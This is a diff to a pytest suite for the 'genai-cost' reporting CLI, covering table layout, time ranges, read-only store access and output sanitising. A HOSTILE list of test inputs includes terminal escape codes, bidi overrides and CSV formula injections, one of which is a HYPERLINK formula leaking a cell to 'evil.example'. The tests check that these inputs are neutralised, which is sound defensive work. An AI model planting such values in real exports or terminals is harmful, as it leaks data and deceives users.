@@ -5,8 +5,15 @@ from __future__ import annotations
 import csv
 import io
 import json
+import os
+import pwd
 import re
+import shutil
 import sqlite3
+import subprocess
+import sys
+import tempfile
+from collections.abc import Iterator
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
@@ -15,12 +22,13 @@ import pytest
 from genai_cost import config
 from genai_cost.cli import main
 from genai_cost.store.db import UsageStore
-from genai_cost.store.migrations import MIGRATIONS, MIGRATIONS_TABLE
+from genai_cost.store.migrations import MIGRATIONS, MIGRATIONS_TABLE, m001_usage
 from genai_cost.store.timerange import TimeRangeError, resolve
 from genai_cost.usage import Cost, Usage
 from store_data import CALLS, CLAUDE_MODEL, GROQ_MODEL, Call, record, utc
 
 NOVEMBER = ["--from", "2026-11-01", "--to", "2026-11-30"]
+SRC = str(Path(__file__).resolve().parents[1] / "src")
 
 
 @pytest.fixture(autouse=True)
@@ -59,8 +67,8 @@ def section(out: str, title: str) -> list[list[str]]:
 # --- table ---------------------------------------------------------------------------------------------
 
 
-def test_default_table_summary_feature_model(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    code, out, err = run(capsys, *NOVEMBER)
+def test_wide_table_summary_feature_model(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    code, out, err = run(capsys, "--wide", *NOVEMBER)
     assert (code, err) == (0, "")
     assert out.splitlines()[0] == f"genai-cost report: {db}, 2026-11-01 00:00 to 2026-12-01 00:00 UTC"
     header = out.splitlines()[3].split()
@@ -81,11 +89,49 @@ def test_default_table_summary_feature_model(db: Path, capsys: pytest.CaptureFix
          "3.00s"],
     ]  # fmt: skip
     assert [row[0] for row in section(out, "By model")] == [CLAUDE_MODEL, GROQ_MODEL, "ft:gpt-4o-mini:acme"]
-    assert "1 calls had tokens but no known price; their cost is not included" in out
+    assert "1 call had tokens but no known price; its cost is not included" in out
+    assert "- = not reported (or nothing to average); (none) = calls without that tag" in out
+    assert "--wide" not in out.split("By model")[1]  # every column is shown already
+
+
+def test_default_table_is_compact_and_fits_the_terminal(
+    db: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    compact = ["requests", "errors", "input tok", "output tok", "cached tok", "cost (USD)", "avg/call", "p95"]
+    code, out, _ = run(capsys, *NOVEMBER)  # not a terminal: the compact set, whatever its width
+    assert code == 0
+    assert re.split(r"\s{2,}", out.splitlines()[3].strip()) == compact
+    assert section(out, "Summary") == [
+        ["all calls", "7", "1 (14.3%)", "7,500", "1,450", "2,000", "$0.028000", "$0.007000", "4.00s"]
+    ]
+    assert out.rstrip().endswith(
+        "More columns (rate-limited, unpriced, sessions, avg/session, p50, p99): --wide."
+    )
+    for columns in ("80", "60", "20"):
+        monkeypatch.setenv("COLUMNS", columns)
+        code, out, _ = run(capsys, *NOVEMBER)
+        table = out.split("\n\n")[1:4]  # the three tables
+        widest = max(len(line) for part in table for line in part.splitlines())
+        assert widest <= int(columns) or columns == "20", (columns, widest)  # requests and cost always stay
+        assert "requests" in out and "cost (USD)" in out
+    assert (
+        out.splitlines()[-1].startswith("More columns (errors, rate-limited, ")
+        and "p95" in out.splitlines()[-1]
+    )
+
+
+def test_a_closed_pipe_is_not_an_error(db: Path) -> None:
+    # `genai-cost report | head -1`: the reader goes away before the report is written.
+    command = [sys.executable, "-c", _CLI, SRC, "report", "-d", str(db)]
+    proc = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    assert proc.stdout is not None and proc.stderr is not None
+    proc.stdout.close()
+    err = proc.stderr.read().decode()
+    assert (proc.wait(timeout=60), err) == (0, "")
 
 
 def test_by_session_and_top(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    code, out, _ = run(capsys, "--by", "session", *NOVEMBER)
+    code, out, _ = run(capsys, "--by", "session", "--wide", *NOVEMBER)
     assert code == 0
     rows = {r[0]: r for r in section(out, "By session")}
     assert rows["s1"][7] == "$0.003000" and rows["s1"][11] == "$0.003000"  # cost per interview session
@@ -133,7 +179,68 @@ def test_csv_rows(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
     interview = rows[1]
     assert interview == {k: "" if v is None else str(v) for k, v in INTERVIEW.items()}
     code, out, _ = run(capsys, "--by", "user", "--format", "csv", "--from", "2030-01-01")
-    assert (code, out.splitlines()) == (0, [",".join(INTERVIEW)])  # header only
+    assert (code, out.splitlines()) == (0, [",".join(f'"{key}"' for key in INTERVIEW)])  # header only
+
+
+# Tag values come from the app (and through it from its users): none may act on the reader's terminal
+# or spreadsheet.
+HOSTILE = [
+    "\x1b[2J\x1b[Hscreen cleared",
+    "forged\nall calls        999  $0.000001",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "\tleading tab",
+    "\rleading return",
+    "bidi \u202eevil\u202c",
+    "plain_feature",
+]
+
+
+@pytest.fixture
+def hostile_db(tmp_path: Path) -> Path:
+    path = tmp_path / "hostile.db"
+    calls = [
+        Call(utc(f"2026-11-20T10:00:{i:02d}"), 0.5, "openai", "gpt-4o-mini", feature=name, usage=Usage(10, 1),
+             cost=Cost(0.001 * (i + 1)))
+        for i, name in enumerate(HOSTILE)
+    ]  # fmt: skip
+    record(str(path), calls)
+    return path
+
+
+def test_table_shows_control_characters_escaped(hostile_db: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    code, out, _ = run(capsys, "-d", str(hostile_db), "--by", "feature")
+    assert code == 0
+    for char in ("\x1b", "\r", "\t", "\u202e", "\u202c"):
+        assert char not in out, repr(char)
+    rows = section(out, "By feature")
+    assert len(rows) == len(HOSTILE)  # the newline forged no row
+    keys = {row[0] for row in rows}
+    assert "\\x1b[2J\\x1b[Hscreen cleared" in keys
+    assert "forged\\nall calls" in keys  # the rest of that cell follows after two spaces
+    assert "bidi \\u202eevil\\u202c" in keys and "plain_feature" in keys
+
+
+def test_csv_cells_never_start_a_formula(hostile_db: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    code, out, _ = run(capsys, "-d", str(hostile_db), "--by", "feature", "--format", "csv")
+    assert code == 0
+    keys = {row["key"] for row in csv.DictReader(io.StringIO(out))}
+    assert keys == {
+        "\x1b[2J\x1b[Hscreen cleared",
+        "forged\nall calls        999  $0.000001",
+        '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+        "'+1+1",
+        "'-1+1",
+        "'@SUM(A1:A9)",
+        "'\tleading tab",
+        "'\rleading return",
+        "bidi \u202eevil\u202c",
+        "plain_feature",
+    }
+    code, out, _ = run(capsys, "-d", str(hostile_db), "--by", "feature", "--format", "json")
+    assert {row["key"] for row in json.loads(out)} == set(HOSTILE)  # JSON stays exact
 
 
 def test_day_and_operation_breakdowns(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
@@ -146,6 +253,18 @@ def test_day_and_operation_breakdowns(db: Path, capsys: pytest.CaptureFixture[st
 
 
 # --- time ranges relative to now ----------------------------------------------------------------------
+
+
+def test_ranges_near_the_ends_of_the_calendar(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    # Years below 1000 compare as text only when written with four digits.
+    for argv in (
+        ["--from", "0999-01-01"],
+        ["--from", "0001-01-01", "--to", "9999-12-30"],
+        ["--days", "700000"],
+    ):
+        code, out, err = run(capsys, "--format", "json", *argv)
+        assert (code, err) == (0, ""), argv
+        assert json.loads(out)[0]["requests"] == 8, argv
 
 
 def test_per_user_over_7_30_90_days(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
@@ -200,6 +319,17 @@ def _one_line_error(code: int, out: str, err: str) -> str:
         (["--days", "7", "--from", "2026-11-01"], "use either --since/--days or --from, not both"),
         (["--days", "0"], "--days 0: expected a whole number of days, 1 or more"),
         (["--from", "2026-11-22", "--to", "2026-11-01"], "the range is empty"),
+        (
+            ["--to", "9999-12-31"],
+            "--to '9999-12-31': out of range (use a date from 0001-01-01 to 9999-12-30)",
+        ),
+        (["--from", "0001-01-01T00:00+05:00"], "--from '0001-01-01T00:00+05:00': out of range"),
+        (["--days", "999999999"], "--days 999999999: too far back (the earliest date is 0001-01-01)"),
+        (
+            ["--since", "99999999999d"],
+            "--since '99999999999d': too far back (the earliest date is 0001-01-01)",
+        ),
+        (["--since", "9" * 5000 + "m"], "too far back"),
     ],
 )
 def test_bad_time_range(db: Path, capsys: pytest.CaptureFixture[str], argv: list[str], message: str) -> None:
@@ -295,3 +425,91 @@ def test_store_is_not_created_by_report(tmp_path: Path, capsys: pytest.CaptureFi
     UsageStore.open(path).close()  # an empty store reports zero calls
     code, out, _ = run(capsys, "-d", str(path))
     assert code == 0 and "no GenAI calls in this range (calls recorded: none)" in out
+
+
+# --- a reader who may not write -------------------------------------------------------------------------
+
+_CLI = "import sys; sys.path.insert(0, sys.argv[1]); from genai_cost.cli import main; sys.exit(main(sys.argv[2:]))"
+
+
+def _reader_command() -> list[str]:
+    """How to run Python as a user who cannot write the store. Root writes through any file mode, so
+    as root the CLI runs as `nobody` (it needs only the standard library and src/)."""
+    if os.geteuid() != 0:
+        return [sys.executable]
+    setpriv = shutil.which("setpriv")
+    assert setpriv, "running as root: setpriv (util-linux) is needed to read the store as another user"
+    nobody = pwd.getpwnam("nobody")
+    drop = [setpriv, f"--reuid={nobody.pw_uid}", f"--regid={nobody.pw_gid}", "--clear-groups"]
+    # The test's interpreter may live in root's home; any Python 3.11+ that `nobody` can run will do.
+    for python in (sys.executable, "/usr/bin/python3", shutil.which("python3")):
+        if python and subprocess.run(
+            [*drop, python, "-c", "import sys; sys.exit(sys.version_info < (3, 11))"],
+            capture_output=True, env={"PATH": "/usr/bin:/bin"}, check=False,
+        ).returncode == 0:  # fmt: skip
+            return [*drop, python]
+    raise AssertionError(
+        "no Python 3.11+ that the user nobody may run (tried the test's and /usr/bin/python3)"
+    )
+
+
+def _as_a_reader(*argv: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [*_reader_command(), "-c", _CLI, SRC, *argv],
+        capture_output=True,
+        text=True,
+        timeout=60,
+        env={"PATH": "/usr/bin:/bin", "LC_ALL": "C.UTF-8"},
+        check=False,
+    )
+
+
+@pytest.fixture
+def shared_dir() -> Iterator[Path]:
+    # Not tmp_path: pytest keeps its temporary directories private to their owner.
+    base = Path(tempfile.mkdtemp(prefix="genai-cost-readonly-"))
+    base.chmod(0o755)
+    yield base
+    for path in base.rglob("*"):
+        if path.is_dir():
+            path.chmod(0o755)
+    shutil.rmtree(base)
+
+
+def test_report_needs_read_access_only(shared_dir: Path) -> None:
+    # The app has exited (its WAL is checkpointed and gone); the reader may read the file but write
+    # neither it nor its directory, so SQLite cannot create the -shm file WAL mode uses.
+    path = shared_dir / "store" / "usage.db"
+    record(str(path), CALLS)
+    assert sorted(os.listdir(path.parent)) == ["usage.db"]
+    before = path.read_bytes()
+    path.chmod(0o444)
+    path.parent.chmod(0o555)
+    done = _as_a_reader("report", "-d", str(path), "--format", "json", *NOVEMBER)
+    assert done.returncode == 0, done.stderr
+    assert json.loads(done.stdout)[0]["requests"] == 7
+    done = _as_a_reader("report", "-d", str(path), "--by", "user")
+    assert (done.returncode, done.stderr) == (0, ""), done.stderr
+    assert "By user" in done.stdout
+    assert sorted(os.listdir(path.parent)) == ["usage.db"] and path.read_bytes() == before
+
+
+def test_report_on_an_old_store_it_may_not_upgrade(shared_dir: Path) -> None:
+    path = shared_dir / "store" / "usage.db"
+    path.parent.mkdir()
+    old = sqlite3.connect(path, isolation_level=None)
+    m001_usage(old)
+    old.execute(f"CREATE TABLE {MIGRATIONS_TABLE} (name TEXT PRIMARY KEY, applied_at TEXT)")
+    old.execute(f"INSERT INTO {MIGRATIONS_TABLE} VALUES ('m001_usage', 'x')")
+    old.close()
+    path.chmod(0o444)
+    path.parent.chmod(0o555)
+    done = _as_a_reader("report", "-d", str(path))
+    assert done.returncode == 2 and done.stdout == ""
+    assert done.stderr == (
+        f"genai-cost: error: {path} was written by an older genai-cost and needs a one-time upgrade; "
+        "run genai-cost report once as a user who can write it\n"
+    )
+    path.parent.chmod(0o755)
+    path.chmod(0o644)
+    assert main(["report", "-d", str(path), "--format", "json"]) == 0  # its owner upgrades it
